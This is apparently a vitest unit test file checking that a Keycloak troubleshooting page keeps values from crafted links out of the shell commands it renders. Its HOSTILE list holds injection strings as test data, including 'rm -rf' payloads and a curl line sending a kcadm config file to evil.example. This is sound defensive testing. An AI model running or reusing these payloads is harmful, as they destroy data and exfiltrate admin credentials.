import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it, vi } from "vitest";
import FixPage from "@/app/fixes/[cause]/page";
import { CAUSE_IDS } from "@/lib/classify/causes";
import { parseFixContext } from "@/lib/fixes/fix-context";
import { renderFix } from "@/lib/fixes/render-fix";
import { trustedFixContext } from "@/lib/fixes/trusted-context";
import type { FixBlock } from "@/lib/fixes/types";

// No database in unit tests: the page knows no source, so no Keycloak URL from a link is trusted.
// Outside a request there is no session: the page is rendered as an admin sees it.
vi.mock("@/lib/auth/get-viewer", () => ({
  getPageViewer: async () => ({ role: "admin", name: "test", anonymous: true }),
}));
vi.mock("@/lib/db/sql", () => ({
  getSql: () => {
    throw new Error("no database in unit tests");
  },
}));

/**
 * A fix-page link is anyone's to craft. Its keycloakUrl, role and user must never reach a command: a command
 * that sends the admin password to another host, grants `admin`, or runs what a name smuggles in.
 */
const KNOWN_URL = "https://keycloak.internal.example";
const HOSTILE = [
  "$(rm -rf /)",
  "`id`",
  "x'; curl https://evil.example/$(cat ~/.keycloak/kcadm.config) #",
  'a" && reboot "',
  "bob\nrm -rf ~",
];

const CRAFTED_QUERIES: Record<string, string>[] = [
  ...HOSTILE.map((bad) => ({
    realm: "acme",
    client: "acme-spa",
    role: bad,
    user: bad,
    keycloakUrl: "https://evil.example",
    publicUrl: "https://evil.example",
  })),
  ...HOSTILE.map((bad) => ({
    realm: bad,
    client: bad,
    username: bad,
    roleClientId: bad,
    audience: bad,
    scope: bad,
    origin: bad,
    redirectUri: bad,
  })),
  {
    realm: "acme",
    client: "acme-spa",
    role: "admin",
    roleClientId: "realm-management",
    username: "mallory",
    keycloakUrl: "https://evil.example",
  },
  {
    realm: "acme",
    client: "acme-spa",
    role: "realm-admin",
    user: "3f1c0a52-9d7e-4b1a-8c2d-1e2f3a4b5c6d",
    keycloakUrl: `${KNOWN_URL}.evil.example`,
  },
];

/** Every command on a page: the code blocks of every section, and of every step. */
function commands(blocks: FixBlock[]): string[] {
  return blocks.flatMap((b) =>
    b.kind === "code"
      ? [b.code.text]
      : b.kind === "steps"
        ? b.steps.flatMap((s) => (s.code ? [s.code.text] : []))
        : [],
  );
}

function craftedValues(query: Record<string, string>): string[] {
  // A plain role name (admin) also occurs in URLs (/admin/realms): those are looked for as assignments below.
  const out = [query.keycloakUrl, query.user, query.username].filter((v): v is string => v !== undefined);
  for (const v of Object.values(query)) if (/[$`'"\n ;&|]/.test(v)) out.push(v);
  return out;
}

describe("a crafted fix-page link yields no command using its values", () => {
  it("keeps a foreign keycloakUrl, any role and any hostile name out of every command of every cause", () => {
    for (const query of CRAFTED_QUERIES) {
      const { ctx, untrusted } = trustedFixContext(parseFixContext(query), {
        knownKeycloakUrls: [KNOWN_URL],
      });
      expect(untrusted.length, JSON.stringify(query)).toBeGreaterThan(0);
      for (const cause of CAUSE_IDS) {
        const text = renderFix(cause, ctx)
          .sections.flatMap((s) => commands(s.blocks))
          .join("\n");
        for (const bad of craftedValues(query)) {
          expect(text.includes(bad), `${cause}: ${JSON.stringify(bad)}`).toBe(false);
          // Quoted for a shell, a value would read differently: look for its quoted form too.
          expect(text.includes(bad.replaceAll("'", "'\\''")), `${cause}: quoted ${JSON.stringify(bad)}`).toBe(
            false,
          );
        }
        expect(text, cause).not.toContain("evil.example");
        expect(text, cause).not.toMatch(/ROLE=(?:'?)(?:admin|realm-admin)\b/);
        expect(text, cause).not.toMatch(/ROLE_CLIENT_ID='?realm-management/);
        expect(text, cause).not.toContain("--rolename admin");
      }
    }
  });

  it("uses a Keycloak URL of a known source and plain names, and says why the rest is left out", () => {
    const { ctx, untrusted } = trustedFixContext(
      parseFixContext({
        realm: "acme",
        client: "acme-spa",
        keycloakUrl: KNOWN_URL,
        role: "orders-admin",
        username: "x`id`",
      }),
      { knownKeycloakUrls: [`${KNOWN_URL}/`] },
    );
    expect(ctx).toEqual({ realm: "acme", clientId: "acme-spa", keycloakUrl: KNOWN_URL });
    expect(untrusted.map((u) => [u.field, u.reason])).toEqual([
      ["role", expect.stringContaining("must not grant a role a link names")],
      ["username", expect.stringContaining("must not act on a user a link names")],
    ]);
  });

  it("trusts the pattern's own evidence over the link", () => {
    const { ctx, untrusted } = trustedFixContext(parseFixContext({ realm: "acme", role: "admin" }), {
      knownKeycloakUrls: [],
      evidence: { realm: "acme", role: "orders-admin", roleClientId: "acme-orders-api" },
    });
    expect(ctx).toMatchObject({ role: "orders-admin", roleClientId: "acme-orders-api" });
    expect(untrusted).toEqual([
      { field: "role", value: "admin", reason: "differs from what the failures carry (orders-admin)" },
    ]);
  });

  it("renders the page with placeholders in its commands and the link's values listed as untrusted", async () => {
    for (const query of CRAFTED_QUERIES) {
      for (const cause of ["missing-role", "user-state", "proxy-misconfig", "cors"]) {
        const page = await FixPage({
          params: Promise.resolve({ cause }),
          searchParams: Promise.resolve(query),
        });
        const html = renderToStaticMarkup(page);
        expect(html).toContain('data-testid="fix-untrusted"');
        const pre = [...html.matchAll(/<pre[^>]*>([\s\S]*?)<\/pre>/g)].map((m) => m[1] ?? "").join("\n");
        expect(pre, cause).not.toContain("evil.example");
        expect(pre, cause).not.toContain("rm -rf");
        expect(pre, cause).not.toContain("`id`");
        expect(pre, cause).not.toContain("mallory");
      }
    }
  });
});
